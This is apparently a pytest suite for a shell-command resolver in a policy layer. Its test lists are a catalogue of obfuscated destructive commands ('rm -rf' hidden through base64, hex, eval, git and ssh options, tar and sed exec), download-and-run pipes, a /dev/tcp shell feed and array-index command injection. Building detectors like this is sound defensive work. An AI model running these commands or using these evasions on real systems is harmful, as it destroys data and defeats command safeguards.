"""Ways in which a shell, and programs that run others, are made to run a command: the command is
found in each."""

import pytest

from policy.effects.shell.run.resolving import resolve

WAYS = [
    "at now <<< 'rm -rf /x'",
    "at -f <(echo 'rm -rf /x') now",
    '"$(command -v rm)" -rf /x',
    "exec 3< <(echo 'rm -rf /x'); bash <&3",
    "exec < <(echo 'rm -rf /x'); bash",
    "echo 'rm -rf /x' | bash /dev/stdin",
    "echo 'rm -rf /x' | (read l; $l)",
    "echo 'rm -rf /x' | { cat | sh; }",
    "echo 'rm -rf /x' | sudo tee /tmp/x | sh",
    "ex -sc '!rm -rf /x' -c q",
    'ssh -o "ProxyCommand rm -rf /x" h',
    "apt-get -o APT::Update::Pre-Invoke::='rm -rf /x' update",
    "git grep -O'rm -rf /x' a",
    "echo 'rm -rf /x' | dd of=x.sh; sh x.sh",
    "install -m755 /dev/stdin x <<< 'rm -rf /x'; ./x",
    "cp /dev/stdin x <<< 'rm -rf /x'; sh x",
    "xargs -I{} {} -rf /x <<< rm",
    "rm$IFS-rf$IFS/x",
    "echo${IFS}cm0gLXJmIC94Cg==|base64${IFS}-d|sh",
    "eval $(echo cm0gLXJmIC94 | openssl base64 -d)",
    "bash --rcfile <(echo 'rm -rf /x') -i",
    "BASH_ENV=<(echo rm -rf /x) bash -c :",
    "PS4='$(rm -rf /x)' bash -xc :",
    "ansible all -m shell -a 'rm -rf /x'",
    "salt '*' cmd.run 'rm -rf /x'",
    "pdsh -w h rm -rf /x",
    "gcloud compute ssh x --command='rm -rf /x'",
    "adb shell rm -rf /x",
    "apptainer exec img rm -rf /x",
    "multipass exec vm -- rm -rf /x",
    "screen -S a -X stuff 'rm -rf /x'",
    "osascript -e 'do shell script \"rm -rf /x\"'",
    "sqlite3 a '.shell rm -rf /x'",
    "mysql -e '\\! rm -rf /x'",
    "env - rm -rf /x",
    "command time -v rm -rf /x",
    "sudo -iu root rm -rf /x",
    "echo 'rm -rf /x' > x.sh; bash -c \"$(<x.sh)\"",
    "setarch x86_64 -R rm -rf /x",
    "perf record -g -- rm -rf /x",
    "builtin command -p exec rm -rf /x",
    "x='$(rm -rf /x)'; eval \"echo $x\"",
    "printf '%s ' rm -rf /x | sh",
    "printf '%s\\n' rm -rf /x | xargs env",
    ":|{ rm -rf /x;}",
    "y=${z:=$(rm -rf /x)}",
    "arr[$(rm -rf /x)]=1",
    "cat > >(rm -rf /x)",
    "bash /dev/fd/3 3<<< 'rm -rf /x'",
    "cat /dev/fd/3 3<<< 'rm -rf /x' | sh",
    "rm() { echo no; }; command rm -rf /x",
    "rm() { echo no; }; bash -c 'rm -rf /x'",
    "rm() { echo no; }; unset -f rm; rm -rf /x",
    "a() ( rm -rf /x ); a",
    "for ((i=0;i<1;i++)) { rm -rf /x; }",
    "$EMPTY rm -rf /x",
    "$(true) rm -rf /x",
    "`` rm -rf /x",
    "echo 'true\\nrm -rf /x' | sh",
    "IFS=$'\\n'; for l in $(echo 'rm -rf /x'); do eval $l; done",
    'set rm -rf /x; "$@"',
    'set -- $(echo rm -rf /x); "$@"',
    'f() { local c=$1; shift; $c "$@"; }; f rm -rf /x',
    'f() { eval "$*"; }; f rm -rf /x',
    "f() { cat | sh; }; echo 'rm -rf /x' | f",
    'run() { "$@"; }; run sudo rm -rf /x',
    'a="rm"; b="-rf"; "$a" "$b" /x',
    "readonly C=rm; $C -rf /x",
    "export C='rm -rf /x'; bash -c \"$C\"",
    "export C='rm -rf /x'; bash -c 'eval \"$C\"'",
    "C='rm -rf /x' bash -c '$C'",
    "env C='rm -rf /x' sh -c '$C'",
    "sudo C='rm -rf /x' sh -c '$C'",
    "printf '%s' \"$(printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f\\x78')\" | sh",
    "printf '\\u0072\\u006d -rf /x\\n' | sh",
    "echo $'\\x72m -rf /x' | sh",
    "sh <<< \"$(tr 'a-z' 'b-za' <<< 'ql -qe /w')\"",
    "echo 'x/ fr- mr' | rev | bash",
    "echo rmX-rfX/x | tr X ' ' | sh",
    "echo rm_-rf_/x | sed 's/_/ /g' | sh",
    "echo rm,-rf,/x | awk -F, '{print $1,$2,$3}' | sh",
    "echo 'a b rm -rf /x' | cut -d' ' -f3- | sh",
    "echo 'rm -rf /xJUNK' | sed 's/JUNK//' | sh",
    "echo '# rm -rf /x' | sed 's/^# //' | sh",
    "echo '# rm -rf /x' | cut -c3- | sh",
    "xxd -r -p <<< 726d202d7266202f78 | sh",
    "echo 726d202d7266202f78 | sed 's/../\\\\x&/g' | xargs -0 printf | sh",
    "printf \"$(echo '\\162\\155') -rf /x\" | sh",
    "bash -c \"$(printf 'rm %s %s' -rf /x)\"",
    "a='rm -rf'; b='/x'; $a $b",
    'a=rm; a="$a -rf"; a+=" /x"; eval "$a"',
    "declare a=rm b=-rf; $a $b /x",
    "typeset -x a=rm; sh -c '$a -rf /x'",
    'a=(rm -rf); a+=(/x); "${a[@]}"',
    'a=([0]=rm [1]=-rf [2]=/x); "${a[@]}"',
    "declare -A m=([c]=rm); ${m[c]} -rf /x",
    'a="x rm -rf /x"; ${a#x }',
    'a="rm -rf /x y"; ${a% y}',
    "a=/bin/rm; ${a##*/} -rf /x",
    "a=rm.txt; ${a%.txt} -rf /x",
    "a=mr; ${a:1}${a:0:1} -rf /x",
    "a=RM; ${a@L} -rf /x",
    "a='\\x72m'; ${a@E} -rf /x",
    "n=2; a=(x y rm); ${a[n]} -rf /x",
    "${SHELL} -c 'rm -rf /x'",
    "$BASH -c 'rm -rf /x'",
    "$0 -c 'rm -rf /x'",
    "/proc/self/exe -c 'rm -rf /x'",
    "exec -a ls rm -rf /x",
    "(exec rm -rf /x)",
    "{ rm -rf /x; } 2>/dev/null",
    "rm -rf /x 2>&1 | tee log",
    "yes | rm -rf /x",
    "rm -rf /x && echo ok || echo no",
    "cd / && rm -rf x; rm -rf /x",
    "test -d /x && rm -rf /x || true",
    "if [ -d /x ]; then sudo rm -rf /x; fi",
    'while IFS= read -r f; do rm -rf "$f"; done <<< /x',
    "while read -r a b; do $a -rf $b; done <<< 'rm /x'",
    "echo /x | while read f; do rm -rf $f; done",
    "echo '/x' | xargs -I % rm -rf %",
    "echo '/x' | parallel rm -rf",
    "find /x -print0 | xargs -0 -I{} sh -c 'rm -rf /x'",
    "find /x -type f -exec sh -c 'rm -rf \"$1\"' _ /x \\;",
    'nohup bash -c "rm -rf /x" > /dev/null 2>&1 &',
    "screen -dmS a bash -c 'rm -rf /x'",
    "setsid -f rm -rf /x",
    "systemd-run --scope -p A=b rm -rf /x",
    "chpst -u a rm -rf /x",
    "timeout --foreground -k 1 5 rm -rf /x",
    "stdbuf --output=L rm -rf /x",
    "nsenter -t 1 -m -u -n -i sh -c 'rm -rf /x'",
    "docker run -v /:/h --privileged --rm alpine sh -c 'rm -rf /x'",
    'docker run --rm -it ubuntu:22.04 bash -lc "rm -rf /x"',
    "docker-compose run --rm -e A=b web rm -rf /x",
    "kubectl -n ns exec deploy/a -c b -- bash -c 'rm -rf /x'",
    "kubectl run a --image=b --restart=Never -- rm -rf /x",
    "ssh -i k -o StrictHostKeyChecking=no u@h -- rm -rf /x",
    "ssh -tt h \"sudo bash -c 'rm -rf /x'\"",
    "sshpass -p x ssh u@h 'rm -rf /x'",
    "scp -o ProxyCommand='rm -rf /x' a b:",
    "rsync -av --rsh='ssh -o ProxyCommand=\"rm -rf /x\"' a b:",
    "git -c core.sshCommand='rm -rf /x' fetch",
    "git -c core.fsmonitor='rm -rf /x' status",
    "git config core.hooksPath x; git config --global alias.z '!rm -rf /x'",
    "git clone -c core.pager='rm -rf /x' u",
    "git clone --upload-pack='rm -rf /x' a b",
    "git bisect run rm -rf /x",
    "git filter-branch --tree-filter 'rm -rf /x' HEAD",
    "git -C d -c alias.a='!f() { rm -rf /x; }; f' a",
    "tar --checkpoint=1 --checkpoint-action exec='rm -rf /x' -cf a b",
    "tar cf - a --rsh-command='rm -rf /x'",
    "zip a b -T -TT 'rm -rf /x'",
    'awk \'BEGIN { print "x" | "rm -rf /x" }\'',
    "awk 'BEGIN { while ((\"rm -rf /x\" | getline l) > 0) print l }'",
    "sed -n '1e rm -rf /x' /etc/hosts",
    "sed '1!G;h;$!d;e rm -rf /x' f",
    "vim -c '!rm -rf /x' -c 'q!'",
    "vim '+!rm -rf /x' f",
    "vi -c ':silent !rm -rf /x' f",
    "printf '!rm -rf /x\\n' | ed",
    "printf 'e !rm -rf /x\\n' | ed -s f",
    "mysql -e 'system rm -rf /x'",
    "psql -c '\\! rm -rf /x'",
    "gdb -q -ex '!rm -rf /x' -ex q",
    (
        "echo 'rm -rf /x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
        " .git/hooks/pre-commit"
    ),
    (
        "echo 'rm -rf /x' | sudo tee /usr/local/bin/z; sudo chmod +x /usr/local/bin/z;"
        " /usr/local/bin/z"
    ),
    "echo 'rm -rf /x' > /tmp/z; . /tmp/z",
    "echo 'rm -rf /x' > ~/z; bash ~/z",
    "echo 'rm -rf /x' > \"$HOME/z\"; sh ~/z",
    "d=/tmp/a; mkdir -p $d; echo 'rm -rf /x' > $d/z.sh; bash $d/z.sh",
    "f=$(mktemp); echo 'rm -rf /x' > $f; bash $f",
    'f=$(mktemp); echo \'rm -rf /x\' > "$f"; chmod +x "$f"; "$f"',
    "flock -x /tmp/l bash -c 'rm -rf /x'",
    "watch --interval 5 --exec rm -rf /x",
    "strace -f -e trace=file -o /dev/null sh -c 'rm -rf /x'",
    "ltrace rm -rf /x",
    "unshare --mount --map-root-user rm -rf /x",
    "toybox rm -rf /x",
    "/bin/busybox sh -c 'rm -rf /x'",
    "/usr/bin/env -u A -- rm -rf /x",
    "/usr/bin/env bash -c 'rm -rf /x'",
    "npm exec -c 'rm -rf /x'",
    "npx --yes -c 'rm -rf /x'",
    "poetry run sh -c 'rm -rf /x'",
    "conda run -n e rm -rf /x",
    "direnv exec . rm -rf /x",
    "proxychains4 -q rm -rf /x",
    "myretry --times 3 -- rm -rf /x",
    "./run.sh rm -rf /x",
    "with-lock /tmp/l rm -rf /x",
    "sudo-wrapper /bin/rm -rf /x",
    "loop 5 sh -c 'rm -rf /x'",
]


@pytest.mark.parametrize("text", WAYS)
def test_a_command_is_found_however_it_is_run(text: str) -> None:
    names = [
        [
            (word.text or "").rpartition("/")[2] if at == 0 else word.text
            for at, word in enumerate(c.words)
        ]
        for c in resolve(text).commands
    ]
    assert ["rm", "-rf", "/x"] in names


@pytest.mark.parametrize(
    "text",
    [
        "echo x | awk '{system($0)}'",
        "echo x | awk '{print | \"sh\"}'",
        "sed 's/^/a /e' <<< x",
        "echo x | sed e",
        "curl -o x http://a/b; sh x",
        "wget http://a/b.sh; bash b.sh",
        "curl -sO http://a/i.sh && chmod +x i.sh && ./i.sh",
        "coproc sh; echo x >&${COPROC[1]}",
        "mkfifo p; sh < p & echo x > p",
        'bash -c "$(<x.sh)"',
        "cat x | gunzip | sh",
        "python3 -c 'print(1)' | sh",
        'eval "$(ssh h cat x)"',
        "f=$(mktemp); curl -s http://a > $f; bash $f",
        "base64 -d x | sh",
        "openssl enc -d -in x | bash",
        "exec 3<>/dev/tcp/h/1; bash <&3",
    ],
)
def test_a_program_that_is_not_known_is_told(text: str) -> None:
    programs = [program for command in resolve(text).commands for program in command.programs]
    assert any(program.language == "sh" and not program.is_read for program in programs)


@pytest.mark.parametrize(
    "text",
    [
        "declare -n ref=c; c=rm; $ref -rf /x",
        "declare -l x=RM; $x -rf /x",
        "sudo !!",
        "$(python3 -c 'print(1)') -rf /x",
        "printf 'url=https://h.example\\n' > c; curl -sK c",
        "printf 'Host *\\n' > c; ssh -Fc h",
        "GIT_CONFIG_COUNT=1 git log",
    ],
)
def test_a_name_that_is_made_in_other_ways_is_unsure(text: str) -> None:
    assert resolve(text).unsure[0].startswith("name:")


@pytest.mark.parametrize(
    "text",
    [
        "make --eval='a:;rm -rf /x' a",
        "make -f /dev/stdin <<< $'a:;rm -rf /x'",
        "printf 'all:\\n\\t@rm -rf /x\\n' > m; make -f m all",
    ],
)
def test_a_makefile_that_the_text_makes_is_unsure(text: str) -> None:
    assert resolve(text).unsure == ("language: a makefile that the text makes",)


def test_a_download_that_is_run_is_told_with_its_command() -> None:
    found = resolve("curl -o x http://a/b; sh x").commands
    assert found[-1].programs[0].text.outputs == (0,)


@pytest.mark.parametrize(
    "text",
    [
        "case x in $(rm -rf /x)) ;; esac",
        "case x in a|`rm -rf /x`) ls;; esac",
        "echo ${x:$(rm -rf /x)}",
        "echo ${x:1:$(rm -rf /x)}",
        "echo ${x#$(rm -rf /x)}",
        "echo ${x/a/$(rm -rf /x)}",
        'echo "${x^$(rm -rf /x)}"',
        "x=b; echo ${x^^$(rm -rf /x)}",
        "echo ${#a[$(rm -rf /x)]}",
        "a=(); echo ${a[@]%$(rm -rf /x)}",
        "mapfile -C 'rm -rf /x #' -c 1 a < y",
        "compgen -C 'rm -rf /x'",
    ],
)
def test_commands_in_what_is_not_looked_at_run_all_the_same(text: str) -> None:
    ran = [[word.known for word in command.words] for command in resolve(text).commands]
    assert any(words[:3] == ["rm", "-rf", "/x"] for words in ran)


@pytest.mark.parametrize(
    "text",
    [
        "let 'x=a[$(id)]'",
        "test -v 'a[$(id)]'",
        "[[ 'a[$(id)]' -eq 0 ]]",
        "read 'a[`id`]' < y",
        "unset 'a[$(id)]'",
        "x='a[$(id)]'; ((x)); [ $x -eq 1 ]",
    ],
)
def test_an_index_that_runs_commands_is_unsure(text: str) -> None:
    assert "decode: an index of an array that runs commands" in resolve(text).unsure


@pytest.mark.parametrize(
    "text",
    [
        "printf '%s' \"${a[0]}\"",
        "unset a[2]",
        "[[ $x =~ a[$y] ]]",
        "export X=[$(date)]",
        "a[$i]=$(date)",
    ],
)
def test_other_indices_are_sure(text: str) -> None:
    assert not resolve(text).unsure or "empty" in resolve(text).unsure[0]
